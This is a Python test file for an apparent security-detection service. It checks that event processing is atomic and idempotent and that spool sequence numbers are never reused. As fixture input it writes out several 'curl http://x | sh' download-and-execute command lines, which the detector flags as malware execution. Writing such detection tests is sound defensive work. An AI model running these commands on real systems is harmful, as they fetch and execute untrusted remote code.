"""One step: all of it or nothing, whatever fails, and no event lost by a mistake of ours."""

from __future__ import annotations

import sqlite3
import threading
import time

import pytest

from nachtwacht.detect import State, store
from nachtwacht.detect.context import read_config
from nachtwacht.ingest.otlp import pack
from nachtwacht.ingest.spool import Spool, Spooled
from nachtwacht.runtime import step as steps
from nachtwacht.runtime.loop import Loop
from nachtwacht.runtime.step import Books, step, tick
from nachtwacht.runtime.watch import read_watch
from tests.ingest.sender import request
from tests.runtime.running import Running, until
from tests.runtime.test_runtime import shell


class Bench:
    """A store and the watch of the office, without a process."""

    def __init__(self, folder):
        config = read_config(Running(folder).config)
        config.data.mkdir()
        self.config, self.said = config, []
        self.watch = read_watch(config)
        self.connection = store.open_store(config.data / "store.sqlite")
        store.schema(self.connection)
        self.taken = []
        self.books = Books(
            connection=self.connection,
            state=State(self.connection),
            take=lambda _, findings, __: self.taken.extend(findings),
            say=lambda level, text: self.said.append((level, text)),
        )

    def count(self, table):
        return self.connection.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


@pytest.fixture
def bench(tmp_path):
    made = Bench(tmp_path)
    yield made
    made.connection.close()


def spooled(seq, *commands):
    lines = [shell(command, serial=seq * 100 + number) for number, command in enumerate(commands)]
    return Spooled(seq, "ws-01", time.time(), pack(request("ws-01", "linux_audit", lines)))


def test_a_step_that_fails_at_its_end_has_changed_nothing(bench, monkeypatch):
    def full(*_):
        raise sqlite3.OperationalError("database or disk is full")

    attack = spooled(1, "curl http://x | sh", "true")
    monkeypatch.setattr(store, "count_events", full)
    with pytest.raises(sqlite3.OperationalError):
        step(bench.books, bench.watch, [attack])
    assert [bench.count(table) for table in ("findings", "seen", "counts", "correlation")] == [0, 0, 0, 0]
    assert store.cursor_of(bench.connection) == 0
    monkeypatch.undo()
    assert len(step(bench.books, bench.watch, [attack]).findings) == 1
    assert store.cursor_of(bench.connection) == 1


def test_a_step_that_is_done_again_finds_nothing_new(bench):
    attack = spooled(1, "curl http://x | sh")
    assert step(bench.books, bench.watch, [attack]).findings
    assert not step(bench.books, bench.watch, [attack]).findings
    assert store.totals(bench.connection) == {"records": 2, "duplicates": 1, "unparsed": 0}


def test_findings_stand_when_they_cannot_be_followed_up_and_are_tried_again(bench):
    def broken(*_):
        raise KeyError("runbook")

    books = Books(connection=bench.connection, state=bench.books.state, take=broken, say=bench.books.say)
    assert len(step(books, bench.watch, [spooled(1, "curl http://x | sh")]).findings) == 1
    assert bench.count("findings") == 1
    assert len(store.not_followed(bench.connection)) == 1
    assert "no incident yet" in bench.said[0][1]
    tick(bench.books, bench.watch)
    assert [finding.use_case for finding in bench.taken] == ["malware_execution"]
    assert store.not_followed(bench.connection) == []


def test_a_request_on_which_the_step_fails_by_a_defect_is_set_aside_and_the_others_count(bench, monkeypatch, tmp_path):
    real = steps.normalise

    def defect(record, estate):
        if "poison" in str(record.body):
            raise RuntimeError("a mistake of ours")
        return real(record, estate)

    monkeypatch.setattr(steps, "normalise", defect)
    spool = Spool(bench.config.data / "spool.sqlite", reserve_bytes=0, arrived=lambda: None, say=lambda *_: None)
    for one in (spooled(1, "curl http://a | sh"), spooled(2, "poison"), spooled(3, "curl http://b | sh")):
        spool.put("ws-01", one.arrived, one.body).result(10)
    stop, something = threading.Event(), threading.Event()

    class Nobody:
        def wake(self):
            """Nothing to do."""

    loop = Loop(
        spool=spool,
        books=bench.books,
        watch=lambda: bench.watch,
        after=Nobody(),
        something=something,
        say=bench.books.say,
    )
    thread = threading.Thread(target=loop.run, args=(0, stop))
    thread.start()
    until(lambda: store.cursor_of(bench.connection) == 3)
    stop.set()
    something.set()
    thread.join()
    spool.close()
    assert bench.count("findings") == 2
    kept = bench.connection.execute("SELECT host, reason FROM unparsed").fetchall()
    assert kept == [("ws-01", "RuntimeError: a mistake of ours")]
    assert any("was set aside" in text for _, text in bench.said)


def test_a_spool_that_was_made_anew_does_not_use_old_numbers(tmp_path):
    spool = Spool(tmp_path / "spool.sqlite", reserve_bytes=0, arrived=lambda: None, say=lambda *_: None)
    spool.begin_after(41)
    spool.put("ws-01", 1.0, b"x").result(10)
    assert [one.seq for one in spool.take(41, 10, 1000)] == [42]
    spool.close()


def test_numbers_are_never_used_again_after_the_spool_was_emptied(tmp_path):
    for turn in range(3):
        spool = Spool(tmp_path / "spool.sqlite", reserve_bytes=0, arrived=lambda: None, say=lambda *_: None)
        spool.put("ws-01", 1.0, b"x").result(10)
        assert [one.seq for one in spool.take(turn, 10, 1000)] == [turn + 1]
        spool.drop(turn + 1)
        spool.close()


def test_requests_that_come_together_are_committed_together(tmp_path):
    commits = []
    spool = Spool(tmp_path / "spool.sqlite", reserve_bytes=0, arrived=lambda: commits.append(1), say=lambda *_: None)
    done = [spool.put("ws-01", 1.0, b"x" * 100) for _ in range(2000)]
    for one in done:
        one.result(30)
    assert len(commits) < 1000
    assert len(spool.take(0, 5000, 1 << 30)) == 2000
    spool.close()
